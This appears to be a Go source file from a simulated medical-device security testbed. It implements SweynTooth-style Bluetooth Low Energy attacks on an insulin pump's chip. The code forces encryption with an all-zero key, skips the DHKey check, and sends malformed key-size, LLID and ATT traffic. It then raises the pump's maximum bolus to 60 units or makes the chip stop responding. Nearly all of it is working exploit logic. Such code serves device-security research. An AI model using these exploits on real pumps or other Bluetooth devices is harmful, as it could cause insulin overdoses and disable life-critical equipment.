// SPDX-FileCopyrightText: 2026 The Myelin authors
// SPDX-License-Identifier: Apache-2.0

package legacy

import (
	"context"
	"encoding/binary"
	"errors"
	"time"

	"github.com/myelin-health/myelin/ble"
	"github.com/myelin-health/myelin/sim/toolbox"
)

// A central is somebody's phone on a link to the chip.
type central struct {
	*channel
	airEnd
	inbox []message
}

// A message is what the chip said in one PDU of L2CAP, or, of channel 0, of the link layer.
type message struct {
	cid uint16
	b   []byte
}

// foreignPhone is nobody's.
var foreignPhone = ble.Address{Bytes: [6]byte{0x00, 0x00, 0x5e, 0x00, 0x53, 0xd9}, Kind: ble.Public}

// maxEvents is how many connection events an answer is waited for.
const maxEvents = 16

// deafness is how long it is that a chip does not answer which does not any more.
const deafness = 500 * time.Millisecond

// linked is the run of an attack over a link.
func linked(how string, do func(*central) error) func(context.Context, *Env) (Result, error) {
	return func(ctx context.Context, env *Env) (Result, error) {
		own := *env
		ch, err := own.dial(ctx, counted)
		if err != nil {
			return Result{}, err
		}
		defer ch.Close()
		c := &central{channel: ch}
		if err = c.connect(); err == nil {
			err = do(c)
		}
		return result(how, nil, err)
	}
}

// deafens is the run of an attack after which the chip is not there any more.
func deafens(how string, do func(*central) error) func(context.Context, *Env) (Result, error) {
	return linked(how, func(c *central) error {
		err := do(c)
		c.env.Patience = deafness
		if err != nil && !errors.Is(err, errSilent) {
			return err
		}
		switch err := c.connect(); {
		case err == nil:
			return errRefused // it is there
		case !errors.Is(err, errSilent):
			return err
		}
		return nil
	})
}

// connect looks whether the chip is there, and opens a link.
func (c *central) connect() error {
	q := ble.ScanRequest{Scanner: foreignPhone, Advertiser: chipAddress}
	if _, err := c.ask(ble.AppendAir(nil, ble.AdvertisingAccess, advertisingCRC, q.AppendPDU(nil))); err != nil {
		return err
	}
	c.airEnd, c.inbox = airEnd{side: ble.Central}, nil
	c.address[ble.Central], c.address[ble.Peripheral] = foreignPhone, chipAddress
	for !ble.ValidAccess(c.access) {
		b, err := c.env.random(8)
		if err != nil {
			return err
		}
		c.access, c.crcInit = binary.LittleEndian.Uint32(b), binary.LittleEndian.Uint32(b[4:])&0xffffff
	}
	r := ble.ConnectRequest{
		Initiator: foreignPhone, Advertiser: chipAddress, Access: c.access, CRCInit: c.crcInit,
		WinSize: 2, WinOffset: 3, Interval: 24, Timeout: 500, Channels: [5]byte{0xff, 0xff, 0xff, 0xff, 0x1f}, Hop: 7,
	}
	return c.channel.send(ble.AppendAir(nil, ble.AdvertisingAccess, advertisingCRC, r.AppendPDU(nil)))
}

// event is a connection event: what the central says, and what the chip does.
func (c *central) event(p airPDU) error {
	b, err := c.ask(c.packet(p))
	if err != nil {
		return err
	}
	llid, payload, what := c.take(b)
	switch {
	case what != airNew:
		return errSilent
	case len(payload) == 0:
		return nil
	case llid == ble.LLIDControl:
		c.inbox = append(c.inbox, message{0, payload})
		return nil
	}
	if cid, b := c.assemble(llid, payload); cid != 0 {
		c.inbox = append(c.inbox, message{cid, b})
	}
	return nil
}

// hear waits for what comes through a channel.
func (c *central) hear(cid uint16) ([]byte, error) {
	for range maxEvents {
		for i, m := range c.inbox {
			if m.cid == cid {
				c.inbox = append(c.inbox[:i], c.inbox[i+1:]...)
				return m.b, nil
			}
		}
		if err := c.event(airPDU{llid: ble.LLIDContinuation}); err != nil {
			return nil, err
		}
	}
	return nil, errSilent
}

func (c *central) say(cid uint16, b []byte, err error) error {
	for _, p := range fragments(cid, b) {
		if err == nil {
			err = c.event(p)
		}
	}
	return err
}

// pair says something of a pairing, and waits for the answers that are due.
func (c *central) pair(p ble.SMP, answers ...ble.SMPCode) (said []ble.SMP, err error) {
	b, err := p.Append(nil)
	if err := c.say(ble.CIDSMP, b, err); err != nil {
		return nil, err
	}
	for _, code := range answers {
		if b, err = c.hear(ble.CIDSMP); err != nil {
			return nil, err
		}
		var a ble.SMP
		if a.Parse(b) != nil || a.Code != code {
			return nil, errRefused
		}
		said = append(said, a)
	}
	return said, nil
}

// wish is what the central says of itself, and how long it wants the key.
func wish(size uint8) ble.SMP {
	f := chipSays
	f.IOCapability, f.MaxKeySize = ble.KeyboardDisplay, size
	return ble.SMP{Code: ble.PairingRequest, PairingFeatures: f}
}

// encrypt starts encryption under a key (Vol 6 Part B section 5.1.3.1).
func (c *central) encrypt(ltk toolbox.Key) error {
	r, err := c.env.random(12)
	if err != nil {
		return err
	}
	own := ble.Control{Opcode: ble.LLEncReq, SKD: binary.LittleEndian.Uint64(r), IV: binary.LittleEndian.Uint32(r[8:])}
	var theirs ble.Control
	for _, step := range []struct{ say, hear uint8 }{{ble.LLEncReq, ble.LLEncRsp}, {0, ble.LLStartEncReq}, {ble.LLStartEncRsp, ble.LLStartEncRsp}} {
		switch step.say {
		case ble.LLEncReq:
			err = c.event(airPDU{llid: ble.LLIDControl, payload: own.Append(nil)})
		case ble.LLStartEncRsp:
			c.session = toolbox.NewSession(ltk, own.SKD, theirs.SKD, own.IV, theirs.IV)
			err = c.event(airPDU{llid: ble.LLIDControl, payload: []byte{ble.LLStartEncRsp}})
		}
		if err != nil {
			return err
		}
		b, err := c.hear(0)
		if err != nil {
			return err
		}
		var m ble.Control
		if m.Parse(uint16(b[0]), b[1:]) != nil || m.Opcode != step.hear {
			return errRefused
		}
		if m.Opcode == ble.LLEncRsp {
			theirs = m
		}
	}
	return nil
}

// raise sets the highest bolus to 60 units.
func (c *central) raise() error {
	q := ble.ATT{Opcode: ble.WriteRequest, Handle: highestHandle, Value: binary.LittleEndian.AppendUint16(nil, falseHighest)}
	b, err := q.Append(nil)
	if err := c.say(ble.CIDATT, b, err); err != nil {
		return err
	}
	b, err = c.hear(ble.CIDATT)
	if err != nil {
		return err
	}
	var a ble.ATT
	if a.Parse(b) != nil || a.Opcode != ble.WriteResponse {
		return errRefused
	}
	return nil
}

const falseHighest = 6000

// raised says that who never proved a key has set the pump's limit.
func raised(how string) func(before, after any, loot []byte) string {
	return hurt(func(_, a ChipState, _ []byte) (bool, string) { return a.Highest == falseHighest && !a.Agreed, how })
}

// deafened says what has made the chip deaf.
func deafened(by string) func(before, after any, loot []byte) string {
	return hurt(func(b, a ChipState, _ []byte) (bool, string) {
		return !b.Deaf && a.Deaf, by + ": the chip answers nobody any more, until it loses power"
	})
}

// chipAttacks are those on the Bluetooth of a pump.
var chipAttacks = []Attack{
	{
		Row: "A38", Name: "zero-key", Device: "ble-soc", Realism: Wire, About: "SweynTooth: encryption before a key was agreed on, with one of zeros",
		Run: linked("the highest bolus set over a link that a key of zeros encrypts", func(c *central) error {
			if _, err := c.pair(wish(16), ble.PairingResponse); err != nil {
				return err
			}
			if err := c.encrypt(toolbox.Key{}); err != nil {
				return err
			}
			return c.raise()
		}),
		hurt: raised("the highest bolus set to 60 U under a key of zeros"),
	},
	{
		Row: "A38", Name: "dhkey-skip", Device: "ble-soc", Realism: Wire, About: "SweynTooth: encryption before the check that both have the same key",
		Run: linked("the highest bolus set without the DHKey check", func(c *central) error {
			if _, err := c.pair(wish(16), ble.PairingResponse); err != nil {
				return err
			}
			key, err := newPrivate(c.env.random)
			if err != nil {
				return err
			}
			said, err := c.pair(ble.SMP{Code: ble.PairingPublicKey, Value: airPoint(key.PublicKey())}, ble.PairingPublicKey, ble.PairingConfirm)
			if err != nil {
				return err
			}
			theirs, err := readPoint(said[0].Value)
			if err != nil {
				return errRefused
			}
			shared, err := key.ECDH(theirs)
			if err != nil {
				return errRefused
			}
			r, err := c.env.random(16)
			if err != nil {
				return err
			}
			na := toolbox.Key(r)
			if said, err = c.pair(ble.SMP{Code: ble.PairingRandom, Value: na.Air()}, ble.PairingRandom); err != nil {
				return err
			}
			nb := toolbox.Key(toolbox.Reversed(said[0].Value))
			_, ltk := toolbox.F5([32]byte(shared), na, nb, c.address[ble.Central], c.address[ble.Peripheral])
			if err := c.encrypt(ltk); err != nil {
				return err
			}
			return c.raise()
		}),
		hurt: raised("the highest bolus set to 60 U, and no proof of the key"),
	},
	{
		Row: "A38", Name: "key-size", Device: "ble-soc", Realism: Wire, About: "SweynTooth: a key of 253 octets, and memory behind its slot",
		Run: deafens("a key of 253 octets asked for, and no answer to anything since", func(c *central) error {
			c.env.Patience = deafness
			_, err := c.pair(wish(253), ble.PairingResponse)
			return err
		}),
		hurt: deafened("a key of 253 octets cleared what lies behind its slot"),
	},
	{
		Row: "A38", Name: "llid-deadlock", Device: "ble-soc", Realism: Wire, About: "SweynTooth: a packet of no kind",
		Run: deafens("a packet of no kind, and no answer to anything since", func(c *central) error {
			c.env.Patience = deafness
			return c.event(airPDU{llid: ble.LLIDReserved})
		}),
		hurt: deafened("a packet of no kind took its buffer"),
	},
	{
		Row: "A38", Name: "att-deadlock", Device: "ble-soc", Realism: Wire, About: "SweynTooth: requests that do not wait for their answers",
		Run: deafens("requests that did not wait, and no answer to anything since", func(c *central) error {
			b, err := (&ble.ATT{Opcode: ble.ReadRequest, Handle: nameHandle}).Append(nil) // which everybody may
			for range maxAsked {                                                          // which it still answers to
				err = c.say(ble.CIDATT, b, err)
			}
			c.env.Patience = deafness
			return c.say(ble.CIDATT, b, err)
		}),
		hurt: deafened("three requests at once took its buffer"),
	},
}
